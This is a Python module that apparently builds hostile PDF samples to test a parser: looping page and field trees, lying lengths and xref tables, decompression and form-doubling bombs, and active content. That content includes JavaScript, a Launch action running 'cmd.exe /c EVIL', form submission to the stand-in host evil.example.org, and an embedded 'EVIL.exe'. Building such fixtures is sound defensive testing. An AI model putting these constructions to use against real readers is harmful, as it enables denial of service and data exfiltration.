"""PDFs made to harm: loops, lies about size, bombs, and everything that could act."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

MB = 1024 * 1024
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, said: str = "", length: str | None = None) -> bytes:
    return f"<< /Length {length or len(data)} {said} >>\nstream\n".encode() + data + b"\nendstream"


def written(*objects: bytes, root: int = 1, trailer: str = "", tail: bytes | None = None) -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer << /Size {len(objects) + 1} /Root {root} 0 R {trailer} >>\n".encode()
    return bytes(out) + (tail if tail is not None else b"startxref\n%d\n%%%%EOF\n" % start)


def page_with(content: bytes, *more: bytes, resources: str = "", page: str = "") -> bytes:
    """One page with this content stream (object 4); `more` are objects from 5 on."""
    return written(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        + f" /Resources << {resources} >> {page} >>".encode(),
        content,
        *more,
    )


def image(said: str, data: bytes) -> bytes:
    """A page that shows one picture."""
    return page_with(
        stream(b"q 500 0 0 700 0 0 cm /I Do Q"),
        stream(data, f"/Type /XObject /Subtype /Image {said}"),
        resources="/XObject << /I 5 0 R >>",
    )


def fields(catalog: str, *more: bytes) -> bytes:
    """One page; `more` are objects from 5 on, for the form that `catalog` holds."""
    return written(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
        b"null",
        *more,
    )


def flate(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def many_fields(count: int) -> bytes:
    kids = " ".join(f"{number} 0 R" for number in range(4, count + 4))
    return written(
        f"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [{kids}] >> >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [{kids}] >>".encode(),
        *(
            b"<< /Subtype /Widget /FT /Tx /T (f%d) /V (x) /Rect [9 9 99 20] /P 3 0 R >>" % number
            for number in range(count)
        ),
    )


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{number} 0 R" for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return written(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
        *([page] * count),
    )


def doubling(levels: int) -> bytes:
    """Each form draws the next twice: 2 to the power of `levels` in all."""
    forms = [
        stream(
            b"/X Do /X Do" if level < levels - 1 else b"0 0 1 1 re f",
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {level + 6} 0 R >> >>",
        )
        for level in range(levels)
    ]
    return page_with(stream(b"/X Do"), *forms, resources="/XObject << /X 5 0 R >>")


def typed(text: bytes, more: str = "") -> bytes:
    return page_with(
        stream(b"BT /F 12 Tf 72 700 Td (" + text + b") Tj ET"), FONT, resources="/Font << /F 5 0 R >>", page=more
    )


def cmap(ranges: int, width: int) -> bytes:
    """A font whose table of characters unpacks without end."""
    lines = b"".join(b"<%04x> <ffff> <0041>\n" % (place % width) for place in range(ranges))
    table = (
        b"/CIDInit /ProcSet findresource begin begincmap %d beginbfrange\n" % ranges + lines + b"endbfrange endcmap end"
    )
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R >>"
    return page_with(stream(b"BT /F 12 Tf (ab) Tj ET"), font, stream(flate(table), "/Filter /FlateDecode"),
                     resources="/Font << /F 5 0 R >>")  # fmt: skip


def structures() -> Iterator[tuple[str, object]]:
    pages = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    yield "pages within themselves", lambda: written(catalog, pages, page)
    yield (
        "pages whose parents go round",
        lambda: written(
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 4 0 R >>",
            b"<< /Type /Page /Parent 2 0 R >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] >>",
        ),
    )
    yield (
        "a page that is its own parent",
        lambda: written(catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 3 0 R >>"),
    )
    yield (
        "says it has a thousand million pages",
        lambda: written(catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", page),
    )
    yield (
        "the same page 100,000 times",
        lambda: written(catalog, b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>", page),
    )
    yield "10,000 pages", lambda: many_pages(10_000)
    yield "no pages", lambda: written(catalog, b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "pages that are no pages", lambda: written(catalog, b"(pages)")
    yield (
        "pages 3,000 deep",
        lambda: written(
            catalog, *(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (place + 3) for place in range(3000)), page
        ),
    )
    yield "no catalog", lambda: written(b"(catalog)", pages, page)
    yield "an object that is a reference to itself", lambda: written(catalog, b"2 0 R", page)
    yield "references in a ring", lambda: written(catalog, b"3 0 R", b"4 0 R", b"2 0 R")
    yield "arrays 100,000 deep", lambda: written(catalog, b"[" * 100_000 + b"]" * 100_000, page)
    yield "dictionaries 50,000 deep", lambda: written(catalog, b"<< /A " * 50_000 + b">>" * 50_000, page)
    yield "an array that never ends", lambda: written(catalog, b"<< /Type /Pages /Kids [" + b"[" * 200_000, page)
    yield "a string that never ends", lambda: written(catalog, b"(" * 500_000, page)
    yield (
        "a table of places that follows itself",
        lambda: written(catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, trailer="/Prev 9").replace(
            b"/Prev 9", b"/Prev %03d" % _xref_of(catalog, page)
        ),
    )
    yield "a table of places before the file", lambda: written(catalog, pages, page, trailer="/Prev -50")
    yield "a table of places beyond the file", lambda: written(catalog, pages, page, trailer="/Prev 99999999")
    yield "two tables that name each other", _two_tables
    yield (
        "places that lie beyond the file",
        lambda: written(catalog, pages, page).replace(b"00000 n", b"00000 n").replace(b"0000000015", b"9999999999"),
    )
    yield (
        "a table of a thousand million objects",
        lambda: written(catalog, pages, page).replace(b"xref\n0 4", b"xref\n0 999999999"),
    )
    yield "no end", lambda: written(catalog, pages, page, tail=b"")
    yield "a packed table of enormous entries", lambda: _packed_table("/W [900000000 900000000 900000000] /Size 5")
    yield "a packed table of enormous size", lambda: _packed_table("/W [1 2 1] /Size 2147483647 /Index [0 2147483647]")
    yield (
        "packed objects that extend themselves",
        lambda: page_with(stream(b"5 0 (x)", "/Type /ObjStm /N 1 /First 4 /Extends 4 0 R")),
    )
    yield (
        "packed objects of enormous number",
        lambda: page_with(stream(b"5 0 (x)", "/Type /ObjStm /N 2147483647 /First 4")),
    )
    yield (
        "locked by rubbish",
        lambda: written(
            catalog, pages, page, trailer="/Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P 0 >> /ID [() ()]"
        ),
    )
    yield (
        "locked by a key of no length",
        lambda: written(
            catalog,
            pages,
            page,
            trailer="/Encrypt << /Filter /Standard /V 1 /R 2 /Length -8 /O (x) /U (y) /P 1 >> /ID [(a) (b)]",
        ),
    )
    for share in range(5, 100, 8):
        yield (
            f"cut at {share} %",
            lambda share=share: typed(b"x" * 3000)[: 34 * share],
        )


def _xref_of(catalog: bytes, page: bytes) -> int:
    made = written(catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, trailer="/Prev 999")
    return made.index(b"xref\n0")


def _two_tables() -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    first = len(body)
    one = b"xref\n0 1\n0000000000 65535 f \ntrailer << /Size 2 /Root 1 0 R /Prev %06d >>\n"
    second = first + len(one % 0)
    return body + one % second + one % first + b"startxref\n%d\n%%%%EOF\n" % second


def _packed_table(said: str) -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    table = stream(bytes(100), f"/Type /XRef /Root 1 0 R {said}")
    return body + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def forms() -> Iterator[tuple[str, object]]:
    yield (
        "fields within themselves",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            b"<< /T (upn) /FT /Tx /Kids [5 0 R 6 0 R] >>",
            b"<< /T (b) /Kids [5 0 R] /Parent 5 0 R >>",
        ),
    )
    yield (
        "a field that is its own parent",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>", b"<< /T (upn) /Parent 5 0 R /Subtype /Widget /Rect [0 0 9 9] >>"
        ),
    )
    yield (
        "fields whose parents go round",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            b"<< /T (a) /Parent 6 0 R /Subtype /Widget /Rect [0 0 9 9] >>",
            b"<< /T (b) /Parent 5 0 R >>",
        ),
    )
    yield (
        "fields 5,000 deep",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            *(b"<< /T (a) /Parent %d 0 R /Kids [%d 0 R] >>" % (place + 4, place + 6) for place in range(5000)),
            b"<< /T (z) /FT /Tx /V (x) >>",
        ),
    )
    yield "100,000 fields", lambda: many_fields(100_000)
    yield "a form that is a number", lambda: fields("/AcroForm 7", b"null")
    yield "a list of fields that is itself", lambda: fields("/AcroForm << /Fields 5 0 R >>", b"[5 0 R 5 0 R 5 0 R]")
    yield (
        "an answer of 20 MB",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            b"<< /T (reason) /FT /Tx /Subtype /Widget /Rect [0 0 9 9] /V (" + b"x" * (20 * MB) + b") >>",
        ),
    )
    yield (
        "an answer that is a bomb",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            b"<< /T (reason) /FT /Tx /Subtype /Widget /Rect [0 0 9 9] /V 6 0 R >>",
            stream(flate(bytes(200 * MB)), "/Filter /FlateDecode"),
        ),
    )
    yield (
        "20,000 choices",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] >>",
            b"<< /T (sen_status) /FT /Ch /Subtype /Widget /Rect [0 0 9 9] /V (a) /Opt ["
            + b"[(a) (b)] " * 20_000
            + b"] >>",
        ),
    )
    yield (
        "a box as wide as the world",
        lambda: fields(
            "/AcroForm << /Fields [5 0 R] /NeedAppearances true >>",
            b"<< /T (upn) /FT /Tx /V (x) /Subtype /Widget /Rect [-1e30 -1e30 1e30 1e30] >>",
        ),
    )


def contents() -> Iterator[tuple[str, object]]:
    yield "a length that is its own stream", lambda: page_with(stream(b"BT ET", length="4 0 R"))
    yield "lengths in a ring", lambda: page_with(stream(b"BT ET", length="5 0 R"), b"6 0 R", b"5 0 R")
    yield "a length of 2 GB", lambda: page_with(stream(b"BT ET", length="2147483647"))
    yield "a length below nothing", lambda: page_with(stream(b"BT ET", length="-5"))
    yield "a bomb for a page", lambda: page_with(stream(flate(b"q " * (100 * MB)), "/Filter /FlateDecode"))
    yield (
        "a bomb in a bomb in a bomb",
        lambda: page_with(stream(flate(bytes(300 * MB), 3), "/Filter [/FlateDecode /FlateDecode /FlateDecode]")),
    )
    yield "1,000 filters", lambda: page_with(stream(b"x", f"/Filter [{'/FlateDecode ' * 1000}]"))
    yield (
        "rows of 2 GB",
        lambda: page_with(
            stream(
                flate(b"x" * 1000),
                "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 >>",
            )
        ),
    )
    yield (
        "rows of no length",
        lambda: page_with(
            stream(flate(b"x" * 1000), "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 0 /Colors -1 >>")
        ),
    )
    yield "an LZW bomb", lambda: page_with(stream(bytes([0x80, 0x0B, 0x60, 0x50]) * 500_000, "/Filter /LZWDecode"))
    yield "a run of runs", lambda: page_with(stream(b"\x81q" * (2 * MB), "/Filter /RunLengthDecode"))
    yield "zeros in ASCII", lambda: page_with(stream(b"z" * (5 * MB) + b"~>", "/Filter /ASCII85Decode"))
    yield "an unknown filter", lambda: page_with(stream(b"x", "/Filter /EvilDecode"))
    yield (
        "a form that draws itself",
        lambda: page_with(
            stream(b"/X Do"),
            stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"),
            resources="/XObject << /X 5 0 R >>",
        ),
    )
    yield "thirty doublings", lambda: doubling(30)
    yield "a page that is its own content", lambda: page_with(b"3 0 R")
    yield "the same content 50,000 times", lambda: page_with(b"[" + b"5 0 R " * 50_000 + b"]", stream(b"q Q"))
    yield "a million operators", lambda: page_with(stream(flate(b"0 0 m 9 9 l S\n" * 300_000), "/Filter /FlateDecode"))
    yield "100,000 brackets in the content", lambda: page_with(stream(b"[" * 100_000))
    yield "a font of endless ranges", lambda: cmap(60_000, 200)
    yield (
        "a page as wide as the world",
        lambda: page_with(stream(b""), page="/Rotate 45 /UserUnit 1e9").replace(
            b"[0 0 595 842]", b"[-1e30 0 1e30 9e99]"
        ),
    )
    yield (
        "a page that is no number wide",
        lambda: page_with(stream(b"")).replace(b"[0 0 595 842]", b"[/a (b) null 4 0 R]"),
    )
    yield "a page of no size", lambda: page_with(stream(b"")).replace(b"[0 0 595 842]", b"[0 0 0 0]")
    yield (
        "50,000 marks on a page",
        lambda: page_with(stream(b""), b"<< /Subtype /Stamp /Rect [0 0 9 9] >>", page=f"/Annots [{'5 0 R ' * 50_000}]"),
    )


def pictures() -> Iterator[tuple[str, object]]:
    rgb = "/ColorSpace /DeviceRGB /BitsPerComponent 8"
    yield "60,000 by 60,000 with nothing in it", lambda: image(f"/Width 60000 /Height 60000 {rgb}", b"")
    yield (
        "60,000 by 60,000 of zeros",
        lambda: image(f"/Width 60000 /Height 60000 {rgb} /Filter /FlateDecode", flate(bytes(100 * MB))),
    )
    yield "two thousand million wide", lambda: image(f"/Width 2147483647 /Height 2147483647 {rgb}", b"x")
    yield "less than nothing wide", lambda: image(f"/Width -5 /Height -5 {rgb}", b"x")
    yield (
        "JBIG2 nonsense",
        lambda: image(
            "/Width 9000 /Height 9000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
            bytes(range(256)) * 40,
        ),
    )
    yield (
        "JBIG2 with its tables missing",
        lambda: image(
            "/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode "
            "/DecodeParms << /JBIG2Globals 5 0 R >>",
            b"\x00\x00\x00\x00\x30\x00\x01\xff\xff\xff\xff" * 50,
        ),
    )
    yield (
        "JPX nonsense",
        lambda: image(
            "/Width 9000 /Height 9000 /Filter /JPXDecode",
            b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff\x4f\xff\x51" + b"\xff" * 4000,
        ),
    )
    yield (
        "JPEG nonsense",
        lambda: image(
            f"/Width 9000 /Height 9000 {rgb} /Filter /DCTDecode",
            b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\x11" * 4000,
        ),
    )
    yield (
        "fax nonsense",
        lambda: image(
            "/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode "
            "/DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>",
            b"\x00\x10\x01" * 5000,
        ),
    )
    yield "a mask that is its own mask", lambda: image(f"/Width 9 /Height 9 {rgb} /SMask 5 0 R", bytes(243))
    yield (
        "colours in a ring",
        lambda: image("/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace 6 0 R", bytes(243)).replace(
            b"/ColorSpace 6 0 R", b"/ColorSpace [/Indexed 5 0 R 255 5 0 R]"
        ),
    )


def _typed_pdf() -> Pdf:
    pdf = Pdf.open(io.BytesIO(typed(b"Nothing but a page of text that anybody can read")))
    page = pdf.pages[0].obj
    page.Annots = Array()
    return pdf


def _saved(pdf: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]  # whatever pikepdf takes
    return out.getvalue()


EVIL = "https://evil.example.org/EVIL"


def action(kind: str) -> Dictionary:
    """An action of this kind (ISO 32000, table 201), with something evil to do."""
    more: dict[str, Dictionary] = {
        "JavaScript": Dictionary(JS=String("app.alert('EVIL');this.exportDataObject({cName:'EVIL'})")),
        "Launch": Dictionary(F=String("EVIL.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c EVIL"))),
        "URI": Dictionary(URI=String(EVIL)),
        "SubmitForm": Dictionary(F=Dictionary(FS=Name.URL, F=String(EVIL)), Flags=4),
        "ImportData": Dictionary(F=String("EVIL.fdf")),
        "GoToR": Dictionary(F=String("//evil.example.org/EVIL.pdf"), D=Array([0, Name.Fit])),
        "GoToE": Dictionary(F=String("EVIL.pdf"), T=Dictionary(R=Name.C, N=String("EVIL"))),
        "Rendition": Dictionary(JS=String("EVIL"), OP=0),
        "Movie": Dictionary(T=String("EVIL")),
        "Sound": Dictionary(Volume=1),
        "Named": Dictionary(N=Name.Print),
        "RichMediaExecute": Dictionary(CMD=Dictionary(C=String("EVIL"))),
    }
    made = more[kind]
    made.S = Name(f"/{kind}")
    made.Type = Name.Action
    return made


ACTIONS = ("JavaScript", "Launch", "URI", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie", "Sound",
           "Named", "RichMediaExecute")  # fmt: skip


def at_opening(kind: str) -> bytes:
    pdf = _typed_pdf()
    pdf.Root.OpenAction = action(kind)
    return _saved(pdf)


def on_the_page(kind: str) -> bytes:
    pdf = _typed_pdf()
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=action(kind), C=action(kind))
    page.Annots.append(
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=action(kind)))
    )
    return _saved(pdf)


def in_a_field(kind: str) -> bytes:
    pdf = _typed_pdf()
    look = Stream(pdf, b"BT /F 9 Tf (Thornbury) Tj ET")
    look.BBox = Array([0, 0, 90, 20])
    look.AA = Dictionary(O=action(kind))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("upn"), V=String("x"),
            Rect=Array([0, 0, 90, 20]), A=action(kind), AP=Dictionary(N=look),
        )
    )  # fmt: skip
    field.AA = Dictionary(K=action(kind), F=action(kind), V=action(kind), C=action(kind))
    pdf.pages[0].obj.Annots.append(field)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))
    pdf.Root.AA = Dictionary(WC=action(kind), WS=action(kind), DS=action(kind))
    return _saved(pdf)


def chained() -> bytes:
    pdf = _typed_pdf()
    first = pdf.make_indirect(action("Named"))
    first.Next = Array([action("JavaScript"), first])
    pdf.Root.OpenAction = first
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("EVIL"), action("JavaScript")])))
    return _saved(pdf)


def with_files() -> bytes:
    pdf = _typed_pdf()
    pdf.attachments["EVIL.exe"] = b"MZ EVIL"
    file = pdf.Root.Names.EmbeddedFiles.Names[1]
    pdf.Root.AF = Array([file])
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    pdf.pages[0].obj.AF = Array([file])
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=file))
    )
    return _saved(pdf)


def with_film() -> bytes:
    pdf = _typed_pdf()
    film = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 99, 99]),
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("EVIL.swf"), Stream(pdf, b"EVIL")]))),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )  # fmt: skip
    screen = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 9, 9]), A=action("Rendition"))
    pdf.pages[0].obj.Annots.extend([pdf.make_indirect(film), pdf.make_indirect(screen)])
    return _saved(pdf)


def with_xfa() -> bytes:
    pdf = _typed_pdf()
    xdp = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">EVIL</script></event></subform></template></xdp:xdp>'
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(pdf, xdp))
    return _saved(pdf)


def streams_elsewhere() -> bytes:
    """Content, pictures and forms whose bytes are said to stand in other files."""
    pdf = _typed_pdf()
    page = pdf.pages[0].obj
    content = Stream(pdf, b"")
    content.F = Dictionary(FS=Name.URL, F=String(EVIL))
    page.Contents = Array([page.Contents, content])
    form = Stream(pdf, b"")
    form.Subtype, form.BBox = Name.Form, Array([0, 0, 9, 9])
    form.Ref = Dictionary(F=String("//evil.example.org/EVIL.pdf"), Page=0)
    script = Stream(pdf, b"EVIL exec")
    script.Subtype = Name.PS
    page.Resources.XObject = Dictionary(Evil=form, Script=script)
    return _saved(pdf)


def hidden_among_resources() -> bytes:
    pdf = _typed_pdf()
    font = pdf.pages[0].obj.Resources.Font.F
    font.AA = Dictionary(O=action("JavaScript"))
    font.Evil = action("Launch")
    pdf.pages[0].obj.Resources.Properties = Dictionary(
        MC0=Dictionary(Type=Name.OCG, A=action("URI"), JS=String("EVIL"))
    )
    return _saved(pdf)


def active() -> Iterator[tuple[str, object]]:
    for kind in ACTIONS:
        yield f"{kind} at opening", lambda kind=kind: at_opening(kind)
        yield f"{kind} on the page", lambda kind=kind: on_the_page(kind)
        yield f"{kind} in a field", lambda kind=kind: in_a_field(kind)
    yield "actions in a chain that comes back", chained
    yield "files within", with_files
    yield "film", with_film
    yield "Adobe's own form with a script", with_xfa
    yield "streams in other files", streams_elsewhere
    yield "actions hidden among the fonts", hidden_among_resources
    yield (
        "a script, packed and locked against changes",
        lambda: _saved(
            Pdf.open(io.BytesIO(at_opening("JavaScript"))),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            encryption=pikepdf.Encryption(owner="EVIL", user=""),
        ),
    )
